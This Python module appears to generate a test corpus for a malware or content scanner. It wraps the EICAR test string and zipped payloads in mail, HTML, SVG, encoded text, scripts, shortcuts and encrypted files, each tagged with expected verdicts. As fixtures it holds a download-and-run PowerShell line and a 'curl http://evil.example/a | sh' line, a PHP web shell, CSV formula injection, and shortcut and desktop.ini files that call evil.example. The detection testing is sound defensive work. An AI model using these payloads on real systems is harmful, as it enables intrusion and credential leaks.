"""Mail, pages, scripts and other text that carries or runs something."""

import base64
import binascii
import quopri

from .office import open_xml
from .payload import EICAR, GZIPPED, LONG, TEXT, ZIPPED, gz, plain_zip

CODED = ("infected", "active-content", "embedded-program", "suspicious", "not-opened")
RUNS = ("type", "mismatch", "active-content", "embedded-program", "infected", "suspicious")
BASE64 = base64.encodebytes(LONG)
FLAT = base64.b64encode(ZIPPED)


def cases(corpus):
    mail(corpus)
    pages(corpus)
    drawings(corpus)
    coded(corpus)
    scripts(corpus)
    shortcuts(corpus)
    keys(corpus)


def message(body, coding, name="a.zip", kind="application/octet-stream"):
    return (
        b"From: a@example.com\r\nTo: b@example.com\r\nSubject: =?utf-8?b?5oql5ZGK?=\r\nDate: Mon, 1 Jan 2024 00:00:00 +0800\r\n"
        b'Message-ID: <1@example.com>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b1"\r\n\r\n--b1\r\n'
        b"Content-Type: text/plain; charset=utf-8\r\n\r\nhello\r\n--b1\r\nContent-Type: "
        + kind.encode()
        + b'\r\nContent-Disposition: attachment; filename="'
        + name.encode()
        + b'"\r\nContent-Transfer-Encoding: '
        + coding.encode()
        + b"\r\n\r\n"
        + body
        + b"\r\n--b1--\r\n"
    )


def uu(data):
    lines = b"".join(binascii.b2a_uu(data[i : i + 45]) for i in range(0, len(data), 45))
    return b"begin 644 a.zip\n" + lines + b"`\nend\n"


def mail(corpus):
    inner = message(base64.encodebytes(ZIPPED), "base64")
    kinds = [
        ("base64", inner),
        ("base64 of clear text", message(BASE64, "base64", "a.txt")),
        ("quoted-printable", message(quopri.encodestring(LONG), "quoted-printable", "a.txt")),
        ("uuencode", message(uu(ZIPPED), "x-uuencode")),
        ("eight bits", message(EICAR, "8bit", "a.txt")),
        ("mail in mail", message(inner, "7bit", "a.eml", "message/rfc822")),
        (
            "mail in mail in mail",
            message(
                message(inner, "7bit", "a.eml", "message/rfc822"), "7bit", "b.eml", "message/rfc822"
            ),
        ),
    ]
    for name, data in kinds:
        corpus.add("mail: " + name, "信.eml", data, "infected")
        corpus.add("mail named txt: " + name, "信.txt", data, "infected")
        corpus.add("mail in a zip: " + name, "材料.zip", plain_zip([("a.eml", data)]), "infected")
    box = (
        b"From a@example.com Mon Jan  1 00:00:00 2024\r\n"
        + message(b"aGVsbG8=", "base64", "a.txt")
        + b"\r\nFrom b@example.com Mon Jan  1 00:00:00 2024\r\n"
        + inner
    )
    corpus.add(
        "mailbox with an infected second mail", "信.mbox", box, "infected", "type", "mismatch"
    )
    page = (
        b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<html></html>\r\n--b\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\n'
        + base64.encodebytes(ZIPPED)
        + b"\r\n--b--\r\n"
    )
    corpus.add("archived page", "页.mht", page, "infected")
    corpus.add("archived page named doc", "报告.doc", page, "infected", "type", "mismatch")
    corpus.add(
        "mail with a lying end of its parts",
        "信.eml",
        inner.replace(b"--b1--", b"--b2--"),
        "infected",
        "damaged",
    )


def pages(corpus):
    uri = b"data:application/octet-stream;base64," + FLAT
    plain = b"data:text/plain;base64," + base64.b64encode(EICAR)
    kinds = [
        ("data: URI in a link", b'<html><body><a href="' + plain + b'">a</a></body></html>'),
        ("data: URI in a picture", b"<html><body><img src='" + plain + b"'></body></html>"),
        ("data: URI of a zip", b'<html><body><a href="' + uri + b'">a</a></body></html>'),
        (
            "data: URI in a frame",
            b'<html><body><iframe src="' + plain + b'"></iframe></body></html>',
        ),
        ("script with base64", b"<html><script>var a=atob('" + FLAT + b"');</script></html>"),
        ("script", b"<html><script>document.write('a')</script></html>"),
        ("handler", b'<html><body onload="a()"></body></html>'),
        ("object", b'<html><object data="a.swf"></object></html>'),
    ]
    for name, data in kinds:
        corpus.add("page: " + name, "页.html", data, *RUNS)
        corpus.add("page in a zip: " + name, "材料.zip", plain_zip([("a.html", data)]), *RUNS)
        corpus.add("page named txt: " + name, "说明.txt", data, *RUNS)
    big = (
        b"<html><body>"
        + b"<p>ordinary text</p>\n" * 550_000
        + b'<a href="'
        + plain
        + b'">a</a></body></html>'
    )
    corpus.add("silent: page above 10 MB", "页.html", big, *RUNS, "size-limit")
    corpus.add(
        "silent: page above 10 MB in a zip",
        "材料.zip",
        plain_zip([("a.html", big)]),
        *RUNS,
        "size-limit",
    )
    corpus.add("silent: page above 10 MB named txt", "材料.txt", big, *RUNS, "size-limit")
    script = b"var a = 'ordinary';\n" * 1_100_000 + b"eval(atob('" + FLAT + b"'));\n"
    corpus.add("silent: script above 20 MB", "a.js", script, *RUNS, "size-limit")
    corpus.add(
        "silent: script above 20 MB in a zip",
        "材料.zip",
        plain_zip([("a.js", script)]),
        *RUNS,
        "size-limit",
    )


def drawings(corpus):
    head = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
    kinds = [
        ("script", head + b"<script>alert(1)</script></svg>"),
        ("handler", head + b'<circle onload="alert(1)"/></svg>'),
        (
            "base64",
            head
            + b'<image xlink:href="data:application/octet-stream;base64,'
            + FLAT
            + b'"/></svg>',
        ),
        (
            "base64 of the payload",
            head
            + b'<image xlink:href="data:text/plain;base64,'
            + base64.b64encode(EICAR)
            + b'"/></svg>',
        ),
        (
            "page inside",
            head
            + b'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:a()"/></foreignObject></svg>',
        ),
        ("link elsewhere", head + b'<use xlink:href="http://evil.example/a.svg#a"/></svg>'),
        (
            "entities",
            b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>',
        ),
    ]
    for name, data in kinds:
        silent = "silent: " if name == "base64" else ""
        corpus.add(silent + "SVG with " + name, "图.svg", data, *RUNS)
        corpus.add(
            silent + "SVG in a zip with " + name, "材料.zip", plain_zip([("a.svg", data)]), *RUNS
        )
        corpus.add("SVG named png with " + name, "图.png", data, *RUNS)
    corpus.add("SVG packed", "图.svgz", gz(kinds[0][1]), *RUNS, "not-opened")
    for kind, folder in [("docx", "word"), ("xlsx", "xl"), ("pptx", "ppt")]:
        corpus.add(
            "SVG with a script in a " + kind,
            "报告." + kind,
            open_xml(kind, [(folder + "/media/image1.svg", kinds[0][1])]),
            *RUNS,
        )


def coded(corpus):
    lead = "以下是附件内容：\n\n".encode()
    kinds = [
        ("base64 of the payload", lead + base64.encodebytes(EICAR)),
        ("base64 of a zip", lead + base64.encodebytes(ZIPPED)),
        ("base64 of a long text", lead + BASE64),
        ("base64 on one line", lead + FLAT),
        ("base64 and nothing else", base64.b64encode(EICAR)),
        ("base64 of a gzip", lead + base64.encodebytes(GZIPPED)),
        ("base64 for links", lead + base64.urlsafe_b64encode(ZIPPED)),
        ("base64 between quotes", b'data = "' + FLAT + b'"\n'),
        ("base64 behind 100 KB", TEXT * 80 + base64.encodebytes(ZIPPED)),
    ]
    for name, data in kinds:
        corpus.add("silent: text with " + name, "说明.txt", data, *CODED)
        corpus.add(
            "silent: text in a zip with " + name, "材料.zip", plain_zip([("a.txt", data)]), *CODED
        )
    corpus.add("table with base64", "表.csv", b"id,data\n1," + FLAT + b"\n", *CODED)
    corpus.add("JSON with base64", "a.json", b'{"data": "' + FLAT + b'"}', *CODED)
    corpus.add(
        "XML with base64", "a.xml", b'<?xml version="1.0"?><a>' + FLAT + b"</a>", *CODED, "type"
    )
    corpus.add(
        "Markdown with a data: URI", "说明.md", b"![a](data:image/png;base64," + FLAT + b")\n", *CODED
    )
    corpus.add(
        "silent: script with base64",
        "a.js",
        b"var a = atob('" + FLAT + b"');\n",
        *CODED,
        "type",
        "mismatch",
    )
    corpus.add("text with uuencode", "说明.txt", lead + uu(ZIPPED), *CODED)
    corpus.add(
        "text with yEnc",
        "说明.txt",
        b"=ybegin line=128 size=%d name=a.zip\r\n" % len(ZIPPED)
        + bytes((b + 42) & 255 for b in ZIPPED)
        + b"\r\n=yend size=%d\r\n" % len(ZIPPED),
        *CODED,
        "mismatch",
        "type",
        "type-unknown",
    )
    for coding in ("utf-16-le", "utf-16-be", "utf-16"):
        text = ("附件\n" + base64.encodebytes(ZIPPED).decode()).encode(coding)
        mark = {"utf-16-le": b"\xff\xfe", "utf-16-be": b"\xfe\xff"}.get(coding, b"")
        corpus.add("text with base64 in " + coding, "说明.txt", mark + text, *CODED)
    corpus.add("text with the payload in clear", "说明.txt", lead + EICAR, "infected")
    corpus.add("the payload alone", "说明.txt", EICAR, "infected")
    corpus.add("the payload behind 5 MB of text", "说明.txt", TEXT * 4000 + EICAR, "infected")
    corpus.add("the payload in a table", "表.csv", b"a,b\n1," + EICAR + b"\n", "infected")


def scripts(corpus):
    kinds = [
        ("batch file", "a.bat", b"@echo off\r\nstart calc.exe\r\n"),
        (
            "PowerShell",
            "a.ps1",
            b"#Requires -Version 3\r\nparam([string]$a)\r\nInvoke-WebRequest http://evil.example/a -OutFile a.exe\r\n",
        ),
        ("Visual Basic", "a.vbs", b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n'),
        ("JavaScript", "a.js", b"var s = new ActiveXObject('WScript.Shell');\ns.Run('calc');\n"),
        ("shell", "a.sh", b"#!/bin/sh\ncurl http://evil.example/a | sh\n"),
        ("Python", "a.py", b"#!/usr/bin/env python3\nimport os\nos.system('id')\n"),
        ("Perl", "a.pl", b"#!/usr/bin/perl\nsystem('id');\n"),
        ("PHP", "a.php", b"<?php system($_GET['a']); ?>\n"),
        (
            "HTML application",
            "a.hta",
            b'<html><hta:application id=a><script language=vbscript>CreateObject("WScript.Shell").Run "calc"</script></html>',
        ),
        (
            "Windows script file",
            "a.wsf",
            b'<job><script language="JScript">WScript.Echo(1)</script></job>',
        ),
        (
            "registry",
            "a.reg",
            b'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\a]\r\n"b"="c"\r\n',
        ),
        (
            "settings",
            "a.inf",
            b'[Version]\r\nSignature="$CHICAGO$"\r\n[DefaultInstall]\r\nRunPreSetupCommands=a\r\n',
        ),
        ("web query", "a.iqy", b"WEB\r\n1\r\nhttp://evil.example/a\r\n"),
        ("symbolic link table", "a.slk", b'ID;P\r\nC;X1;Y1;K0;EEXEC("calc")\r\nE\r\n'),
    ]
    named = ("type", "mismatch", "active-content", "embedded-program", "suspicious", "type-unknown")
    for name, shown, data in kinds:
        corpus.add("script: " + name, shown, data, *named)
        corpus.add("script in a zip: " + name, "材料.zip", plain_zip([(shown, data)]), *named)
    for name, shown, data in kinds:
        if name in (
            "batch file",
            "shell",
            "Perl",
            "PHP",
            "HTML application",
            "registry",
            "settings",
        ):
            corpus.add("script named pdf: " + name, "报告.pdf", data, *named)
            corpus.add(
                "script named docx in a zip: " + name,
                "材料.zip",
                plain_zip([("a.docx", data)]),
                *named,
                "damaged",
            )
    corpus.add(
        "table that runs a command",
        "表.csv",
        b"name,value\n=cmd|'/c calc'!A1,2\n",
        "active-content",
        "suspicious",
    )
    corpus.add(
        "table that runs a command, with a plus",
        "表.csv",
        b"+cmd|'/c calc'!A1,2\n",
        "active-content",
        "suspicious",
    )


def shortcuts(corpus):
    link = (
        b"\x4c\0\0\0\1\x14\2\0\0\0\0\0\xc0\0\0\0\0\0\0\x46"
        + bytes([0x20, 0, 0, 0])
        + bytes(52)
        + "cmd.exe /c calc".encode("utf-16-le")
    )
    held = ("type", "mismatch", "embedded-program", "infected", "type-unknown")
    for shown in ("a.lnk", "报告.pdf", "报告.txt", "报告.docx"):
        corpus.add("shortcut named " + shown, shown, link, *held)
    corpus.add("shortcut in a zip", "材料.zip", plain_zip([("a.lnk", link)]), *held)
    corpus.add(
        "shortcut in a zip under another name", "材料.zip", plain_zip([("a.jpg", link)]), *held
    )
    corpus.add(
        "shortcut with the payload behind", "a.lnk", link + ZIPPED, *held, "damaged", "polyglot"
    )
    page = b"[InternetShortcut]\r\nURL=file://evil.example/a.exe\r\nIconFile=\\\\evil.example\\a.ico\r\n"
    corpus.add("link to a page", "a.url", page, *held, "active-content")
    corpus.add("link to a page named txt", "说明.txt", page, *held, "active-content")
    run = b"[autorun]\r\nopen=a.exe\r\nicon=a.ico\r\n"
    corpus.add("autorun.inf", "autorun.inf", run, *held, "active-content")
    corpus.add("autorun.inf in upper case", "AUTORUN.INF", run.upper(), *held, "active-content")
    corpus.add(
        "autorun.inf in a zip", "材料.zip", plain_zip([("autorun.inf", run)]), *held, "active-content"
    )
    corpus.add(
        "desktop.ini",
        "desktop.ini",
        b"[.ShellClassInfo]\r\nIconResource=\\\\evil.example\\a,0\r\n",
        *held,
        "active-content",
    )
    corpus.add(
        "desktop entry",
        "a.desktop",
        b"[Desktop Entry]\nType=Application\nExec=sh -c id\n",
        *held,
        "active-content",
    )
    corpus.add(
        "command of the shell",
        "a.scf",
        b"[Shell]\r\nCommand=2\r\nIconFile=\\\\evil.example\\a.ico\r\n",
        *held,
        "active-content",
    )


def keys(corpus):
    body = base64.encodebytes(b"\x85\2\x0c\3" + bytes(range(256)) * 3)
    armour = (
        b"-----BEGIN PGP MESSAGE-----\nVersion: 1\n\n"
        + body
        + b"=abcd\n-----END PGP MESSAGE-----\n"
    )
    held = ("encrypted-document", "encrypted-archive", "not-opened", "infected")
    corpus.add("silent: PGP message", "信.asc", armour, *held, "type")
    corpus.add("silent: PGP message named txt", "信.txt", armour, *held, "type")
    corpus.add("silent: PGP message in a text", "信.txt", TEXT * 30 + armour, *held, "type")
    corpus.add("silent: PGP message in a zip", "材料.zip", plain_zip([("a.txt", armour)]), *held)
    corpus.add("silent: PGP message behind 100 KB", "信.txt", TEXT * 80 + armour, *held, "type")
    smime = (
        b'MIME-Version: 1.0\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"\nContent-Transfer-Encoding: base64\nFrom: a@example.com\nSubject: a\n\n'
        + body
    )
    corpus.add("encrypted mail", "信.eml", smime, *held, "type", "mismatch")
    age = b"-----BEGIN AGE ENCRYPTED FILE-----\n" + body + b"-----END AGE ENCRYPTED FILE-----\n"
    corpus.add("age message", "信.txt", age, *held, "type")
    vault = b"$ANSIBLE_VAULT;1.1;AES256\n" + bytes(range(256)).hex().encode() + b"\n"
    corpus.add("ansible vault", "信.txt", vault, *held, "suspicious", "active-content", "type")
